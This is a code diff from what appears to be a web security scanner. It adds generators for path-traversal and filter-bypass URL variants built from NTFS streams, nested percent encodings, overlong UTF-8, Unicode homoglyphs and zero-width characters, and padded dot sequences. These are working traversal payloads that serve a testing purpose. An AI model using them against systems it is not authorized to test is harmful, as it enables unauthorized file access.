@@ -400,6 +400,134 @@ const CLASSES: Readonly<Record<string, TargetsOf>> = {
       '_method=POST',
       'X-Original-URL=/users/center',
     ].map((more) => `${path}${query === '' ? '?' : `${query}&`}${more}`),
+  // CWE-69: streams and attributes of NTFS.
+  'streams of files': ({ path, folder, name }, query) => [
+    ...behind(
+      path,
+      [
+        '::$INDEX_ALLOCATION',
+        ':$I30:$INDEX_ALLOCATION',
+        ':x.css',
+        '%3Ax',
+        '%3a%24DATA',
+        ':%24DATA',
+        ':Zone.Identifier',
+        '::',
+      ],
+      query,
+    ),
+    `${folder}:$I30:$INDEX_ALLOCATION/${name}${query}`,
+    `${folder}::$DATA/${name}${query}`,
+    `/x::$INDEX_ALLOCATION/..${path}${query}`,
+    `${folder}/${name.slice(0, 6)}~1${query}`,
+  ],
+  // CAPEC-120 and CAPEC-72: percent signs within percent signs, and escapes of other languages.
+  'percent signs of other kinds': ({ path, folder, name }) => [
+    ...[
+      '%%32%65%%32%65',
+      '%25%32%65%25%32%65',
+      '%2%65%2%65',
+      '%uff0e%uff0e',
+      '%25252e%25252e',
+      '%2525252e%2525252e',
+    ].flatMap((dots) => [`/x/${dots}${path}`, `${path}/${dots}/canary.txt`]),
+    ...['%%32%66', '%25%32%66', '%2%66', '%u2215', '%u002f', '%25252f', '%2525252F', '%x2f', '%0%2f', '%\u00ff2f'].map(
+      (slash) => `${folder}${slash}${name}`,
+    ),
+    ...['\\x2f', '\\u002f', '&#47;', '&#x2f;', '%26%2347;', '&sol;', '=2f', '+', '%2b', '\\057'].map(
+      (slash) => `${folder}${slash}${name}`,
+    ),
+  ],
+  // RFC 3629, 3: longer forms than are allowed, surrogates, and numbers beyond the last character.
+  'bytes beyond UTF-8': ({ path }) =>
+    [
+      '%e0%80%ae%e0%80%ae',
+      '%f0%80%80%ae%f0%80%80%ae',
+      '%f8%80%80%80%ae',
+      '%fc%80%80%80%80%ae',
+      '%c0%5c',
+      '%c0%80',
+      '%ed%bf%bf',
+      '%ed%a0%bd%ed%b8%80',
+      '%f4%90%80%80',
+      '%fe%ff',
+      '%ff%fe/%00',
+      '%ef%bb%bf',
+      '%ef%bf%bf',
+      '%ef%b7%90',
+    ].flatMap((bytes) => [`${path}${bytes}`, `/x/${bytes}${path}`]),
+  // Unicode UAX 15 and TR36: normal forms, letters of other writings, and characters without a width.
+  'characters that fold or vanish': ({ path, name }) => [
+    ...[
+      '\u0430',
+      '\u0435',
+      '\u03bf',
+      '\u0131',
+      '\u212a',
+      '\u00df',
+      '\ufb01',
+      '\u{1d41a}',
+      '\u24d0',
+      '\u1d00',
+      '\u{e0061}',
+    ].map((letter) => encodeURI(path.replace(/[a-z](?=[^/]*$)/, letter))),
+    ...[
+      '\u0301',
+      '\u0338',
+      '\u20e5',
+      '\u200c',
+      '\u200d',
+      '\u2060',
+      '\u200e',
+      '\u200f',
+      '\u2066',
+      '\u115f',
+      '\u3164',
+      '\u180e',
+    ].map((mark) => encodeURI(`${path.slice(0, -1)}${mark}${path.slice(-1)}`)),
+    ...['\u0085', '\u2000', '\u2009', '\u2028', '\u2029', '\u205f', '\u3000', '\u{e0020}', '\ue000', '\ufffd'].flatMap(
+      (space) => [encodeURI(`${path}${space}`), encodeURI(`${path}/${space}${name}`)],
+    ),
+  ],
+  // CWE-24 to CWE-34: dots with something between, behind or before them.
+  'dots with something between': ({ path }, query) =>
+    [
+      '.%00.',
+      '..%00',
+      '..%09',
+      '..%0a',
+      '.%2500.',
+      '....',
+      '.../...',
+      '..;x=y',
+      ';..;',
+      '.;',
+      '%2e;',
+      '.\\.',
+      '..\\',
+      '%20..',
+      '..%20',
+      '..%c2%85',
+      '%ff..',
+    ]
+      .concat([
+        '..%3f',
+        '..%23',
+        '*..',
+        '~',
+        '~root',
+        '-',
+        '@..',
+        '..:',
+        '..::$DATA',
+        '.%e2%80%8b.',
+        '%e2%80%ae..',
+        '..%01',
+        '%7f..',
+        '(..)',
+        "'..'",
+      ])
+      .flatMap((dots) => [`/x/${dots}${path}${query}`, `${path}/${dots}/canary.txt`]),
   // CWE-93, CWE-113.
   'line breaks': ({ path }) =>
     behind(path, [
